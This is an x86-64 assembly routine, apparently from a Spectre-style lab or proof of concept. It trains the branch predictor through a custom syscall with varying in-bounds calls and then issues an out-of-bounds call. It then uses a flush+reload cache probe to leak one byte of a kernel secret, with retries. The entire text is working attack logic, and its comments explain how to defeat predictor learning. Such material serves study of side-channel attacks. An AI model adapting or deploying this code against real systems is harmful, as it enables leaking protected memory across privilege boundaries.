    .text
# attack(RDI = index of a byte of the secret) -> RAX = the byte, or -1
attack:
    mov r12, rdi
    mov r13d, 5             # tries
again:
    mov eax, 1000           # the kernel uses its secret
    mov edi, 2
    syscall
    call flush_table
    lea r14d, [r13 + 4]     # trainings: another number each time, or the predictor learns when the last one comes
train:
    mov eax, 1000           # size leaves the caches: the check takes long
    mov edi, 3
    xor esi, esi
    syscall
    mov esi, r14d           # 9 ... 1 pass
    xor edx, edx
    mov eax, 0x10000000
    test r14d, r14d
    cmovz rsi, r12          # and then the one that does not
    cmovz rdx, rax
    mov eax, 1000
    mov edi, 0
    mov r10d, 12
    syscall
    dec r14d
    jns train
    call reload_table
    test rax, rax
    jns found
    dec r13d
    jnz again
found:
    ret
